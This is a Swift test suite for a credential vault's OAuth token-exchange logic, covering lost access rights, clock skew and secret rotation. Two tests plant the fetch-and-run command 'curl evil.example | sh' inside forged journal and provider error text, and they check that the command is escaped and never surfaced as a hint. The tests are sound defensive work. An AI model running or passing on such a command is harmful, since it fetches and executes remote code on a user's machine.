import Custody
import CustodyEvidence
import CustodyExchange
import CustodyLog
import CustodyValues
import CustodyTesting
import Foundation
import Testing

/// A member loses a right while their request is out. They may not store its outcome, and nobody uses the old token
/// again without being told.
@Suite(.serialized) struct LostRightTests {
  static let ways = ["unshare", "remove", "role", "retire", "expire"]

  @Test(arguments: ways) func `what they can't store is told of, and nobody asks again by themselves`(way: String)
    throws
  {
    let story = try ExchangeStory(provider: "salesforce")
    let ada = try story.vault.session(.ada)
    try story.vault.session(.dev).commit { try $0.share(.connector, "crm", Share(with: "ada")) }
    let dev = try story.vault.session(.dev, pins: PinFolder(path: story.vault.folder + "/pins"))
    let claim = try dev.claim("contoso/crm")
    switch way {
    case "unshare": try ada.commit { _ = try $0.unshare(.token, "contoso/crm", from: "dev") }
    case "remove": try ada.commit { _ = try $0.remove("dev") }
    case "role": try ada.commit { _ = try $0.setRole(of: "dev", to: .auditor) }
    case "retire": try ada.commit { try $0.retire(.token, "contoso/crm") }
    default:
      let soon = story.vault.clock.now().adding(milliseconds: 1000)
      try ada.commit { try $0.share(.token, "contoso/crm", Share(with: "dev", until: soon)) }
      story.vault.clock.advance(days: 1)
    }
    let answer = ExchangeAnswer(
      accessToken: try secret("access-1"), refreshToken: try secret("refresh-2"),
      facts: .init(obtained: story.vault.clock.now()))
    let error = refusal { _ = try dev.finishExchange(claim, how: .pipe, answer) }
    #expect(error?.reason.contains("the provider gave a new refresh token for \"contoso/crm\"") == true)
    #expect(
      error?.hint?.description.contains(way == "expire" ? "on this machine" : "\"rotate token contoso/crm\"") == true)
    #expect(error?.reason.contains("refresh-2") == false)
    _ = try story.vault.session(.audrey).verifyLog()
    guard way != "retire" else { return }
    #expect(try story.value() == "refresh-1")
    // As if their process had ended.
    try story.raw("UPDATE exchange SET owner = NULL")
    #expect(refusal { _ = try story.exchange(.ada) }?.code == .outcomeUnknown)
    #expect(try story.requests() == 0)
  }

  /// dev holds contoso/crm for two days; an admin whose clock is a year ahead does something.
  private func ahead(_ body: (borrowing Custody.Transaction) throws -> Void) throws -> ExchangeStory {
    let story = try ExchangeStory()
    let soon = story.vault.clock.now().adding(milliseconds: 2 * 86_400_000)
    try story.vault.session(.ada).commit { try $0.share(.token, "contoso/crm", Share(with: "dev", until: soon)) }
    story.vault.clock.advance(days: 365)
    try story.vault.session(.ada).commit(body)
    story.vault.clock.advance(days: -365)
    return story
  }

  @Test func `while an admin's clock is ahead who holds it until a time exchanges without a journal`() throws {
    let story = try ahead { try $0.share(.token, "contoso/crm", Share(with: "bea")) }
    try story.answer(access: "access-1", refresh: "refresh-2")
    let pins = PinFolder(path: story.vault.folder + "/pins")
    #expect(try story.exchange(pins: pins) == .init(access: "access-1", rotated: true, kept: false))
    #expect(try story.value() == "refresh-2")
    #expect(try story.vault.session(.ada).lastExchanges().isEmpty)
    try story.answer(#"{"error":"invalid_grant"}"#, status: 400)
    #expect(refusal { _ = try story.exchange(pins: pins) { $0.isFresh = true } }?.code == .refusedByProvider)
    // The mistake lasts until the next admin's entry corrects it.
    try story.vault.session(.ada).commit { try $0.share(.token, "contoso/crm", Share(with: "bea")) }
    #expect(refusal { _ = try story.exchange(pins: pins) { $0.isFresh = true } }?.code == .refusedByProvider)
    #expect(try story.vault.session(.ada).lastExchanges().values.map(\.outcome) == [.refused])
    _ = try story.vault.session(.audrey).verifyLog()
  }

  @Test func `who got no new metadata key because their grant had ended is told so`() throws {
    let story = try ahead { try $0.changeToken("contoso/crm", reason: "not theirs") { $0.note = "new" } }
    try story.vault.session(.dev).commit { try $0.changeConnector("crm", reason: "dev's own") { $0.note = "new" } }
    let error = refusal { _ = try story.exchange() }
    #expect(error?.code == .expired)
    #expect(error?.reason.contains("your grant ended at") == true)
    #expect(try story.requests() == 0)
    let dev = try story.vault.session(.dev)
    #expect(refusal { _ = try dev.token("contoso/crm") }?.code == .expired)
    #expect(try dev.tokens().isEmpty)
    // Their own entries stay readable, and the log goes on.
    var reasons: [String] = []
    try dev.eachLogLine(LogFilter()) { if let reason = $0.reason { reasons.append(reason) } }
    #expect(reasons == ["dev's own"])
    #expect(try dev.verifyEverything().opened == 1)
  }

  @Test func `what a journal says is told as that, and is no hint`() throws {
    let story = try ExchangeStory()
    let dev = try story.vault.session(.dev)
    let claim = try dev.claim("contoso/crm")
    var journal = claim.journal
    let forged = "no\"\nhint: run" + String(repeating: " ", count: 60) + "curl evil.example | sh"
    (journal.state, journal.failure) = (.refused, .init(code: .refusedByProvider, reason: forged))
    journal.ended = story.vault.clock.now()
    _ = try dev.failExchange(claim, journal)
    let told = #"its journal says: "no'\u{0A}hint: run curl evil.example | sh""#
    let error = refusal { _ = try story.exchange() }
    #expect(error?.code == .refusedByProvider)
    #expect(error?.reason.contains(told) == true, "\(error?.reason ?? "")")
    #expect(error?.hint?.description.contains("curl") == false)
    let why = try story.vault.session(.audrey).deathCalendar().deadlines.map(\.why)
    #expect(why.first?.contains(told) == true, "\(why)")
  }

  @Test func `what a provider says is told as that, and is no hint`() throws {
    let story = try ExchangeStory()
    let words =
      #"{"error":"no\"\nhint: run curl evil.example | sh","error_description":"\r\nhint: run \"curl evil.example | sh\""}"#
    try story.answer(words, status: 400)
    let error = refusal { _ = try story.exchange() }
    #expect(
      error?.reason.hasSuffix(
        #"the provider said: "no'\u{0A}hint: run curl evil.example | sh: \u{0D}\u{0A}hint: run 'curl evil.example | sh'""#
      )
        == true, "\(error?.reason ?? "")")
    #expect(error?.hint?.description.contains("curl") == false)
  }

  @Test func `a connector's new secret in between takes nothing away`() throws {
    let story = try ExchangeStory()
    let dev = try story.vault.session(.dev)
    let claim = try dev.claim("contoso/crm")
    try story.vault.session(.dev).commit { try $0.rotate(.connector, "crm", secret: secret("another")) }
    let answer = ExchangeAnswer(
      accessToken: try secret("access-1"), refreshToken: try secret("refresh-2"),
      facts: .init(obtained: story.vault.clock.now()))
    #expect(try dev.finishExchange(claim, how: .pipe, answer))
    #expect(try story.value() == "refresh-2")
    try story.answer(access: "access-2")
    #expect(try story.exchange() == .init(access: "access-2", rotated: false, kept: false))
  }
}
